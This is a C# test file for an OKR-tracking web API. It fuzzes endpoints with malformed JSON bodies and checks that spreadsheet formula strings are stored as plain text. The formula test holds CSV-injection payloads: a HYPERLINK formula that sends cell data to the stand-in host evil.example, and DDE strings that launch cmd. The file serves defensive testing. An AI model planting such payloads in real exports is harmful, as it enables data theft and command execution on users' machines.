using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.Extensions.DependencyInjection;
using Okra.Exchange;
using Okra.Tests.Infrastructure;

namespace Okra.Tests.Reliability;

/// <summary>
/// Bad input at volume, from a fixed seed: every malformed body gets a 4xx ProblemDetails with a reason, never a 500,
/// and nothing is written. <c>OKRA_FUZZ_CASES</c> (bench/fuzz.sh) runs many more cases than CI.
/// </summary>
public abstract class FuzzTests(OkraApp app) : ScenarioTestBase(app)
{
    public const int Seed = 20_270_215;

    private static int Cases => int.TryParse(Environment.GetEnvironmentVariable("OKRA_FUZZ_CASES"), out var n) ? n : 300;

    [Fact]
    public async Task Api_MalformedBodies_Answer4xxWithAReasonAndWriteNothing()
    {
        var targets = await TargetsAsync();
        var before = await ExportAsync();
        var random = new Random(Seed);
        var cases = targets.SelectMany(t => t.TextFields.Take(1).Select(f => (t, FuzzCases.Huge(t.Body, f))))
            .Concat(Enumerable.Range(0, Cases).Select(_ => targets[random.Next(targets.Count)]).Select(t => (t, FuzzCases.Next(random, t.Body, t.NumericFields, t.DateFields))));

        foreach (var (target, fuzz) in cases)
        {
            using var content = new ByteArrayContent(fuzz.Body);
            content.Headers.ContentType = new MediaTypeHeaderValue("application/json");
            using var response = await Client.SendAsync(new HttpRequestMessage(target.Method, target.Url) { Content = content });
            var text = await response.Content.ReadAsStringAsync();
            var where = $"{target.Method} {target.Url} with {fuzz.What}: {(int)response.StatusCode} {text[..Math.Min(text.Length, 300)]}";
            Assert.True((int)response.StatusCode is >= 400 and < 500, where);
            var problem = JsonNode.Parse(text)!;
            Assert.False(string.IsNullOrWhiteSpace((string?)problem["title"]), where);
        }
        Assert.Equal(before, await ExportAsync());
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    public async Task Api_FormulaInText_IsKeptAsPlainText(string formula)
    {
        // The JSON API stores text as given (it is not a spreadsheet); exports to CSV or Excel must neutralise it.
        var (person, _, objective) = await WorldAsync();
        var keyResult = await KeyResultAsync(new { objectiveId = objective, title = formula, ownerPersonId = person, kind = "metric", baseline = 0m, target = 10m });
        Assert.Equal(formula, (string)keyResult["title"]!);
        var checkIn = await PostAsync($"/api/v1/key-results/{IdOf(keyResult)}/check-ins", new { date = "2027-02-10", value = 1m, confidence = 5, comment = formula });
        Assert.Equal(formula, (string)checkIn["checkIn"]!["comment"]!);
    }

    private sealed record Target(HttpMethod Method, string Url, JsonObject Body, string[] TextFields, string[] NumericFields, string[] DateFields);

    private async Task<List<Target>> TargetsAsync()
    {
        var (person, cycle, objective) = await WorldAsync();
        var keyResult = IdOf(await MetricAsync(objective, person));
        return
        [
            new(HttpMethod.Post, "/api/v1/objectives",
                new JsonObject { ["cycleId"] = cycle, ["title"] = "Fuzz", ["level"] = "personal", ["type"] = "committed", ["ownerPersonId"] = person },
                ["title"], [], []),
            new(HttpMethod.Post, "/api/v1/key-results",
                new JsonObject { ["objectiveId"] = objective, ["title"] = "Fuzz", ["ownerPersonId"] = person, ["kind"] = "metric", ["baseline"] = 0, ["target"] = 100 },
                ["title"], ["baseline", "target"], []),
            new(HttpMethod.Put, $"/api/v1/key-results/{keyResult}",
                new JsonObject { ["title"] = "Fuzz", ["ownerPersonId"] = person, ["kind"] = "metric", ["baseline"] = 0, ["target"] = 100, ["version"] = 0 },
                ["title"], ["baseline", "target", "version"], []),
            new(HttpMethod.Post, $"/api/v1/key-results/{keyResult}/check-ins",
                new JsonObject { ["date"] = "2027-02-10", ["value"] = 40, ["confidence"] = 7, ["comment"] = "Fuzz" },
                ["comment"], ["value", "confidence"], ["date"]),
            new(HttpMethod.Post, "/api/v1/comments", new JsonObject { ["keyResultId"] = keyResult, ["body"] = "Fuzz" }, ["body"], [], []),
            new(HttpMethod.Post, "/api/v1/people", new JsonObject { ["name"] = "Fuzz", ["email"] = "fuzz@example.test", ["locale"] = "hu" }, ["name"], [], []),
            new(HttpMethod.Post, "/api/v1/teams", new JsonObject { ["name"] = "Fuzz", ["kind"] = "sales" }, ["name"], [], []),
            new(HttpMethod.Post, "/api/v1/cycles", new JsonObject { ["name"] = "2031-Q1", ["kind"] = "quarter", ["startDate"] = "2031-01-01", ["endDate"] = "2031-03-31" },
                ["name"], [], ["startDate", "endDate"]),
        ];
    }

    private async Task<string> ExportAsync()
    {
        await using var scope = App.Services.CreateAsyncScope();
        using var stream = new MemoryStream();
        await scope.ServiceProvider.GetRequiredService<OkrExporter>().ExportAsync(stream, default);
        return Encoding.UTF8.GetString(stream.ToArray());
    }
}

public sealed class FuzzTests_Sqlite(SqliteApp app) : FuzzTests(app), IClassFixture<SqliteApp>;

public sealed class FuzzTests_Postgres(PostgresApp app) : FuzzTests(app), IClassFixture<PostgresApp>;
